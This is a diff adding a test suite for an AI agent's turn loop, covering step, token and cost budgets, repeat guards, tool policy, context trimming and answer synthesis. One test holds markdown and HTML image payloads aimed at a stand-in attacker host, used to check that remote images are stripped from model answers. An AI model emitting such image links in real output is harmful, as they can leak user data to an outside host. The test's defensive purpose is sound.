@@ -1,0 +1,464 @@
+import { afterAll, describe, expect, test } from "vitest";
+import { cacheDirectory } from "../src/config/cache-directory.ts";
+import { createRuntime } from "../src/create-runtime.ts";
+import { turnEventSchema } from "../src/protocol/turn-events.ts";
+import { turnResultSchema, type TurnResult } from "../src/protocol/turn-result.ts";
+import type { LocalTool } from "../src/tools/create-local-source.ts";
+import { runTurn } from "../src/turn/run-turn.ts";
+import { createConversation } from "../src/turn/create-conversation.ts";
+import {
+  call,
+  final,
+  getPrices,
+  scriptedModel,
+  testTurn,
+  type Said,
+  type Script,
+  type TestTurn,
+  type TestTurnOptions,
+} from "./turn-fixtures.ts";
+
+/** Nothing here opens a sandbox: what is tested is the loop. */
+const runtime = createRuntime({ cacheDirectory: cacheDirectory(), poolSize: 0 });
+afterAll(() => runtime.close());
+
+type Ran = TestTurn & { readonly result: TurnResult; readonly model: ReturnType<typeof scriptedModel> };
+
+async function run(script: Script, options: Partial<TestTurnOptions> = {}): Promise<Ran> {
+  const model = scriptedModel(script);
+  const turn = testTurn({ ...options, model });
+  const result = await runTurn(runtime, turn.request);
+  expect(turnResultSchema.parse(result)).toEqual(result);
+  for (const event of turn.events) turnEventSchema.parse(event);
+  expect(turn.events.at(0)?.type).toBe("turn-start");
+  expect(turn.events.at(-1)).toEqual({ type: "turn-end", result });
+  expect(
+    turn
+      .of("answer-delta")
+      .map(({ text }) => text)
+      .join(""),
+  ).toBe(result.answer);
+  return { ...turn, result, model };
+}
+
+const different = (tool: string, times: number): Said[] =>
+  Array.from({ length: times }, (_, symbol) => call(tool, { symbol: `S${symbol}` }));
+const codes = ({ gaps }: TurnResult): string[] => gaps.map(({ code }) => code);
+
+describe("a turn", () => {
+  test("fetches, answers, and says what the answer rests on", async () => {
+    const { result, events } = await run({
+      steps: [call("get_prices", { symbol: "A" }), final("It is 103.", { claims: [{ text: "It is 103.", aliases: ["get_prices_1"] }] })],
+      synthesis: "The mean price of A is 103.",
+    });
+    expect(result).toEqual({
+      schemaVersion: 1,
+      turnId: "turn-1",
+      conversationId: expect.any(String),
+      answer: "The mean price of A is 103.",
+      artifacts: [],
+      gaps: [],
+      outcome: { stopReason: "complete_answer" },
+      confidence: { level: "high", reason: "The answer is complete, and no tool call failed." },
+      grounding: { toolCallAttemptCount: 1, toolCallSuccessCount: 1, toolCallFailureCount: 0, failures: [] },
+      dataset: {
+        datasetId: expect.stringMatching(/^ds_[0-9a-f]{24}$/),
+        hash: expect.stringMatching(/^[0-9a-f]{64}$/),
+        bytes: expect.any(Number),
+        publicDataUrl: expect.stringMatching(/^sluice:\/\/datasets\//),
+      },
+      usage: { steps: 2, inputTokens: 40, outputTokens: 20, wallMs: expect.any(Number), sandboxMs: 0 },
+      trace: [
+        { step: 1, calls: [{ tool: "get_prices", alias: "get_prices_1", durationMs: expect.any(Number), status: "ok", artifacts: [] }] },
+        { step: 2, calls: [{ tool: "final_response", durationMs: expect.any(Number), status: "ok", artifacts: [] }] },
+      ],
+    });
+    expect(events.map(({ type }) => type)).toEqual([
+      "turn-start",
+      "plan",
+      "step-start",
+      "tool-start",
+      "tool-end",
+      "step-start",
+      "tool-start",
+      "tool-end",
+      "answer-delta",
+      "turn-end",
+    ]);
+  });
+
+  test("takes plain text as the end, too", async () => {
+    const { result } = await run({ steps: [{ text: "I know that: 4." }] });
+    expect(result.answer).toBe("I know that: 4.");
+    expect(result.outcome.stopReason).toBe("complete_answer");
+  });
+
+  test("shows the model a preview and an alias, and keeps the output whole", async () => {
+    const conversation = createConversation();
+    const { model } = await run({ steps: [call("get_prices"), final("Done.")] }, { conversation });
+    const told = JSON.stringify(model.stepCalls[1]!.prompt);
+    expect(told).toContain('\\"alias\\":\\"get_prices_1\\"');
+    expect(told).toContain("The whole output is available in Python as get_prices_1.");
+    expect(told).not.toContain('\\"day\\":150');
+    expect(JSON.parse(new TextDecoder().decode(conversation.evidence.get("get_prices_1")!.read()))).toHaveLength(300);
+  });
+
+  test("has the same evidence in a later turn, by alias, and says that variables are gone", async () => {
+    const conversation = createConversation();
+    await run({ steps: [call("get_prices"), final("First.")], synthesis: "First answer." }, { conversation, question: "First?" });
+    const spec = { type: "line", xKey: "day", series: [{ key: "price" }], xAxis: { type: "number" } };
+    const { result, model } = await run(
+      { steps: [call("render_chart", { alias: "get_prices_1", spec, title: "Price" }), final("Chart 1 is the price.")] },
+      { conversation, turnId: "turn-2" },
+    );
+    const [system, ...messages] = model.stepCalls[0]!.prompt;
+    expect(system!.content).toContain("their tool outputs and results are still there by alias, in Python and in charts: get_prices_1.");
+    expect(system!.content).toContain("Variables of earlier turns are gone; derive again what you need.");
+    expect(messages.map(({ role }) => role)).toEqual(["user", "assistant", "user"]);
+    expect(JSON.stringify(messages)).toContain("First answer.");
+    expect(result.artifacts.map(({ kind, title }) => [kind, title])).toEqual([["chart", "Price"]]);
+  });
+});
+
+describe("the plan", () => {
+  test("boosts the steps when a chart is asked for explicitly", async () => {
+    const { of } = await run({ plan: { chartIntent: "explicit" }, steps: [final("No.")] });
+    expect(of("plan")).toEqual([
+      {
+        type: "plan",
+        plan: { chartIntent: "explicit", measures: [], population: "everything that was asked about", source: "model" },
+        steps: 14,
+      },
+    ]);
+  });
+
+  test("is made by rules when the planning call fails, and says so", async () => {
+    const { of } = await run({ plan: new Error("503 overloaded"), steps: [final("No.")] }, { question: "Plot the price." });
+    expect(of("plan")[0]).toEqual({
+      type: "plan",
+      plan: {
+        chartIntent: "explicit",
+        measures: [],
+        population: "everything that was asked about",
+        source: "rules",
+        because: "The planning call gave no plan: 503 overloaded",
+      },
+      steps: 14,
+    });
+  });
+
+  test("has what the rules read where the model left a field out or wrote nonsense", async () => {
+    const { of } = await run({ plan: { chartIntent: "maybe", measures: ["mean"] }, steps: [final("No.")] }, { question: "Draw it." });
+    expect(of("plan")[0]?.plan).toEqual({
+      chartIntent: "explicit",
+      measures: ["mean"],
+      population: "everything that was asked about",
+      source: "model",
+    });
+  });
+});
+
+describe("the step budget", () => {
+  test("is ten, and the last step can only be final_response", async () => {
+    const { result, model, of } = await run({ steps: [...different("get_prices", 9), final("Enough.")] });
+    expect(result.outcome.stopReason).toBe("complete_answer");
+    expect(result.usage.steps).toBe(10);
+    expect(of("step-start").map(({ forced }) => forced)).toEqual([...Array(9).fill(undefined), "final_response"]);
+    expect(model.stepCalls[9]!.toolChoice).toEqual({ type: "tool", toolName: "final_response" });
+    expect(model.stepCalls[9]!.tools?.map(({ name }) => name)).toEqual(["final_response"]);
+    expect(model.stepCalls[8]!.toolChoice).toEqual({ type: "auto" });
+  });
+
+  test("holds with a model that disobeys: its call is not made, and the answer is from what there is", async () => {
+    const asked: unknown[] = [];
+    const spy: LocalTool = { ...getPrices, execute: (args) => (asked.push(args), [{ price: 1 }]) };
+    const { result } = await run({ steps: different("get_prices", 20) }, { tools: [spy], budgets: { steps: 3 } });
+    expect(asked).toEqual([{ symbol: "S0" }, { symbol: "S1" }]);
+    expect(result.outcome.stopReason).toBe("bounded_step_budget");
+    expect(result.gaps).toEqual([
+      { code: "bounded_step_budget", severity: "major", detail: "The 3 steps of this turn were used before the model was done." },
+    ]);
+    expect(result.answer).toBe(
+      [
+        "The question was not answered fully. This is what there is:",
+        "- get_prices_1: from local__get_prices, 1 row",
+        "- get_prices_2: from local__get_prices, 1 row",
+        "",
+        "The 3 steps of this turn were used before the model was done.",
+      ].join("\n"),
+    );
+    expect(result.confidence).toEqual({ level: "low", reason: "The 3 steps of this turn were used before the model was done." });
+    expect(result.trace[2]!.calls[0]!.status).toBe("refused");
+  });
+
+  test("is also of tokens", async () => {
+    const { result } = await run({ steps: different("get_prices", 20) }, { budgets: { tokens: 40 } });
+    expect(result.outcome.stopReason).toBe("bounded_step_budget");
+    expect(result.gaps[0]!.detail).toBe("The turn used 45 tokens, its budget is 40.");
+  });
+
+  test("is also of cost", async () => {
+    const cost = { maximum: 0.001, inputPerMillionTokens: 30, outputPerMillionTokens: 60 };
+    const { result } = await run({ steps: different("get_prices", 20) }, { budgets: { cost } });
+    expect(result.gaps[0]!.detail).toBe("The turn cost 0.0012, its budget is 0.001.");
+  });
+});
+
+describe("the guards", () => {
+  test("end a turn that makes the same call three times, whatever the order of its keys; the third is not made", async () => {
+    const asked: unknown[] = [];
+    const spy: LocalTool = { ...getPrices, inputSchema: { type: "object" }, execute: (args) => (asked.push(args), [{ price: 1 }]) };
+    const { result } = await run(
+      { steps: [call("get_prices", { a: 1, b: 2 }), call("get_prices", { b: 2, a: 1 }), call("get_prices", { a: 1, b: 2 })] },
+      { tools: [spy] },
+    );
+    expect(asked).toHaveLength(2);
+    expect(result.outcome.stopReason).toBe("bounded_repeat_guardrail");
+    expect(result.gaps[0]).toEqual({
+      code: "bounded_repeat_guardrail",
+      severity: "major",
+      detail: "get_prices was called three times with the same arguments; the third call was not made.",
+    });
+  });
+
+  test("end a turn whose tools have nothing three times", async () => {
+    const empty: LocalTool = { ...getPrices, execute: () => ({ items: [] }) };
+    const { result } = await run({ steps: different("get_prices", 9) }, { tools: [empty] });
+    expect(result.outcome.stopReason).toBe("bounded_empty_result");
+    expect(result.usage.steps).toBe(3);
+    expect(result.gaps[0]!.detail).toBe("Tools answered 3 times with nothing in it, the last one was get_prices.");
+  });
+
+  test("end a turn whose server keeps failing", async () => {
+    const down: LocalTool = {
+      ...getPrices,
+      annotations: {},
+      execute: () => Promise.reject(Object.assign(new Error("HTTP 503"), { status: 503 })),
+    };
+    const { result } = await run({ steps: different("get_prices", 9) }, { tools: [down] });
+    expect(result.outcome.stopReason).toBe("bounded_upstream_failure");
+    expect(result.usage.steps).toBe(3);
+    expect(result.gaps[0]!.detail).toMatch(/^The server local failed 3 times in a row\. The last time: /);
+    expect(result.grounding).toMatchObject({ toolCallAttemptCount: 3, toolCallSuccessCount: 0, toolCallFailureCount: 3 });
+  });
+
+  test("do not end a turn whose other calls in the same step have something", async () => {
+    const mixed: LocalTool = { ...getPrices, execute: ({ symbol }) => (symbol === "full" ? [{ price: 1 }] : []) };
+    const both: Said = { calls: ["a", "b", "c", "full"].map((symbol) => ({ tool: "get_prices", input: { symbol } })) };
+    const { result } = await run({ steps: [both, final("Done.")] }, { tools: [mixed] });
+    expect(result.outcome.stopReason).toBe("complete_answer");
+  });
+
+  test("end a turn that keeps asking for tools that are not there", async () => {
+    const { result } = await run({ steps: different("get_weather", 9) });
+    expect(result.outcome.stopReason).toBe("capability_miss");
+    expect(result.gaps[0]!.detail).toBe("The model asked 3 times for tools that are not there, the last one was get_weather.");
+  });
+});
+
+describe("chart_not_rendered", () => {
+  const explicit = { plan: { chartIntent: "explicit" } };
+
+  test("is a gap when the model is done without having drawn", async () => {
+    const { result } = await run({ ...explicit, steps: [final("Here are numbers.")] });
+    expect(result.outcome.stopReason).toBe("complete_answer");
+    expect(result.gaps).toEqual([
+      {
+        code: "chart_not_rendered",
+        severity: "major",
+        detail: "The chart that was asked for could not be rendered: nothing was drawn before the model was done.",
+      },
+    ]);
+    expect(result.confidence.level).toBe("low");
+    expect(result.answer).toContain("The chart that was asked for could not be rendered: nothing was drawn before the model was done.");
+  });
+
+  test("has the true last cause", async () => {
+    const { result } = await run({ ...explicit, steps: [call("render_chart", { alias: "nothing", spec: {} }), final("Sorry.")] });
+    expect(result.gaps[0]!.detail).toBe(
+      "The chart that was asked for could not be rendered: render_chart failed: Nothing was drawn: spec.type is not as the schema says.",
+    );
+  });
+
+  test.each([
+    ["a provider error", { error: new Error("boom") } as Said, "model_error", "The model failed in step 1: boom"],
+    ["a cut", { cut: "Let me" } as Said, "model_error", "The model failed in step 1: terminated"],
+    ["no time", { hang: true } as Said, "bounded_time", "The 0.2 s of this turn were over before it was done."],
+  ])("is a gap after %s, with it as the cause", async (_, said, stopReason, detail) => {
+    const { result } = await run({ ...explicit, steps: [said] }, { budgets: { wallMs: 200 } });
+    expect(result.outcome.stopReason).toBe(stopReason);
+    expect(result.gaps).toEqual([
+      { code: stopReason, severity: "major", detail },
+      { code: "chart_not_rendered", severity: "major", detail: `The chart that was asked for could not be rendered: ${detail}` },
+    ]);
+    for (const gap of result.gaps) expect(result.answer).toContain(gap.detail);
+  });
+
+  test("is none when a chart was published", async () => {
+    const spec = { type: "line", xKey: "day", series: [{ key: "price" }], xAxis: { type: "number" } };
+    const { result, of } = await run({
+      ...explicit,
+      steps: [call("get_prices"), call("render_chart", { alias: "get_prices_1", spec, title: "Price of A" }), final("Chart 1.")],
+      synthesis: "Numbers only.",
+    });
+    expect(codes(result)).toEqual([]);
+    expect(of("artifact").map(({ artifact, replaces }) => [artifact.kind, replaces])).toEqual([["chart", []]]);
+    expect(result.answer).toBe("Numbers only.\n\nChart 1: Price of A.");
+  });
+});
+
+describe("tools", () => {
+  const many = (count: number): LocalTool[] => Array.from({ length: count }, (_, at) => ({ ...getPrices, name: `tool_${at}` }));
+  const namesOf = ({ model }: Ran): string[] => model.stepCalls[0]!.tools!.map(({ name }) => name);
+
+  test("are all shown up to forty", async () => {
+    const names = namesOf(await run({ steps: [final("Done.")] }, { tools: many(40) }));
+    expect(names).toEqual(
+      expect.arrayContaining(["tool_0", "tool_39", "execute", "search", "get_schema", "code_interpreter", "render_chart"]),
+    );
+    expect(names).not.toContain("call_mcp_skill");
+  });
+
+  test("are found and dispatched past forty", async () => {
+    const ran = await run(
+      { steps: [call("call_mcp_skill", { tool: "tool_40", arguments: { symbol: "A" } }), final("Done.")] },
+      { tools: many(41) },
+    );
+    const names = namesOf(ran);
+    expect(names).toEqual(expect.arrayContaining(["call_mcp_skill", "search", "get_schema", "execute"]));
+    expect(names.filter((name) => name.startsWith("tool_"))).toEqual([]);
+    expect(ran.result.trace[0]!.calls[0]).toMatchObject({ tool: "tool_40", alias: "tool_40_1", status: "ok" });
+  });
+
+  test("that the policy refuses are not shown", async () => {
+    const destroyer: LocalTool = { ...getPrices, name: "drop_all", annotations: { destructiveHint: true } };
+    expect(namesOf(await run({ steps: [final("Done.")] }, { tools: [getPrices, destroyer] }))).not.toContain("drop_all");
+  });
+
+  test("of our own are checked by us: a malformed call is answered with an envelope", async () => {
+    const { model, result } = await run({ steps: [call("get_prices", "{broken"), call("render_chart", { alias: 1 }), final("Done.")] });
+    const told = JSON.stringify(model.stepCalls[2]!.prompt);
+    expect(told).toContain("The call was not made: its arguments are not valid JSON.");
+    expect(told).toContain("CHART_INVALID");
+    expect(result.confidence).toEqual({ level: "medium", reason: "2 tool calls failed on the way." });
+    expect(result.trace.map(({ calls }) => calls.map(({ status }) => status))).toEqual([["refused"], ["error"], ["ok"]]);
+  });
+
+  test("report progress", async () => {
+    const slow: LocalTool = {
+      ...getPrices,
+      execute: (_, { onProgress }) => {
+        onProgress?.({ progress: 1, total: 2, message: "half" });
+        return [1];
+      },
+    };
+    const { of } = await run({ steps: [call("get_prices"), final("Done.")] }, { tools: [slow] });
+    expect(of("tool-progress")).toEqual([
+      { type: "tool-progress", callId: "call-1", tool: "get_prices", progress: 1, total: 2, message: "half" },
+    ]);
+  });
+
+  test("final_response is sent back when it rests on what is not there", async () => {
+    const { model, result } = await run({
+      steps: [
+        final("It is 1.", { claims: [{ text: "It is 1.", aliases: ["result_9"] }], artifactsMentioned: ["Price"] }),
+        final("It is 2."),
+      ],
+    });
+    expect(JSON.stringify(model.stepCalls[1]!.prompt)).toContain(
+      "The answer was not taken: it rests on what is not there (result_9, Price).",
+    );
+    expect(result.answer).toBe("It is 2.");
+  });
+});
+
+describe("context", () => {
+  test("has at most 24 KB of previews; the oldest give way first, and the evidence is whole", async () => {
+    const wide: LocalTool = {
+      ...getPrices,
+      execute: ({ symbol }) => Array.from({ length: 200 }, (_, day) => ({ day, symbol, note: `a rather long remark ${day}`.repeat(4) })),
+    };
+    const batch = (from: number): Said => ({
+      calls: Array.from({ length: 10 }, (_, at) => ({ tool: "get_prices", input: { symbol: `S${from + at}` } })),
+    });
+    const conversation = createConversation();
+    const { model } = await run({ steps: [batch(0), batch(10), final("Done.")] }, { tools: [wide], conversation });
+    const previews = model.stepCalls[2]!.prompt.filter(({ role }) => role === "tool")
+      .flatMap(({ content }) => content as { output: { value: string } }[])
+      .map(({ output }) => output.value);
+    expect(previews).toHaveLength(20);
+    const bytes = previews.map((text) => Buffer.byteLength(text));
+    expect(bytes.reduce((sum, size) => sum + size, 0)).toBeLessThanOrEqual(24_576);
+    expect(bytes[0]).toBeLessThan(bytes[19]!);
+    for (const [at, text] of previews.entries()) expect(text).toContain(`"alias":"get_prices_${at + 1}"`);
+    expect(conversation.evidence.aliases()).toHaveLength(20);
+  });
+
+  test("cuts older answers of other tools when they are too much", async () => {
+    const steps = [...Array(6).keys()].map((at) => call("search", { query: `price ${at}`, limit: 50, detail: "full" }));
+    const many = Array.from({ length: 40 }, (_, at) => ({ ...getPrices, name: `price_${at}`, description: "Prices. ".repeat(40) }));
+    const { model } = await run({ steps: [...steps, final("Done.")] }, { tools: many, budgets: { answerBytes: 30_000 } });
+    const answers = model.stepCalls[6]!.prompt.filter(({ role }) => role === "tool")
+      .flatMap(({ content }) => content as { output: { value: string } }[])
+      .map(({ output }) => output.value);
+    expect(answers[0]).toMatch(/characters were left out to make room\]$/);
+    expect(answers.at(-1)).not.toContain("left out to make room");
+  });
+});
+
+describe("synthesis", () => {
+  test("may not speak of a figure that does not exist: the statement is left out, and that is said", async () => {
+    const { result } = await run({
+      steps: [final("It is 103.")],
+      synthesis: "The mean is 103. The chart below shows the prices.\nNo chart was asked for.",
+    });
+    expect(result.answer).toBe(
+      "The mean is 103. \nNo chart was asked for.\n\n1 statement about a figure that does not exist was left out.",
+    );
+    expect(codes(result)).toEqual(["unsupported_claim"]);
+    expect(result.confidence.level).toBe("medium");
+  });
+
+  test("has no remote images, however they are written", async () => {
+    const { result } = await run({
+      steps: [final("Done.")],
+      synthesis: "A ![secret](https://evil.example/x?d=1) B ![ref][1] C <img src='https://evil.example'> D ![\nx](https://evil.example)",
+    });
+    expect(result.answer).toBe("A secret B ref C  D [\nx](https://evil.example)");
+  });
+
+  test("gets the draft, the previews, the figures and the gaps, and leaves nothing out that it does not say", async () => {
+    let asked = "";
+    const { result } = await run({
+      plan: { chartIntent: "explicit" },
+      steps: [call("get_prices"), final("The draft.")],
+      synthesis: ({ prompt }) => {
+        asked = JSON.stringify(prompt);
+        return "All is well.";
+      },
+    });
+    for (const part of [
+      "What is the mean price of A?",
+      "The draft.",
+      "get_prices_1",
+      "(major) The chart that was asked for could not be rendered",
+    ])
+      expect(asked).toContain(part);
+    expect(result.answer).toBe(
+      "All is well.\n\nThe chart that was asked for could not be rendered: nothing was drawn before the model was done.",
+    );
+  });
+
+  test("does not say a gap twice", async () => {
+    const said = "Sadly the chart that you asked for could not be rendered, since nothing was drawn before the model was done.";
+    const { result } = await run({ plan: { chartIntent: "explicit" }, steps: [final("Draft.")], synthesis: said });
+    expect(result.answer).toBe(said);
+  });
+
+  test("falls back to the draft when the provider fails", async () => {
+    const { result } = await run({ steps: [final("The draft.")], synthesis: new Error("429 slow down") });
+    expect(result.outcome.stopReason).toBe("complete_answer");
+    expect(result.answer).toBe("The draft.\n\nThe answer could not be written to its end: 429 slow down.");
+    expect(codes(result)).toEqual(["synthesis_failed"]);
+  });
+});
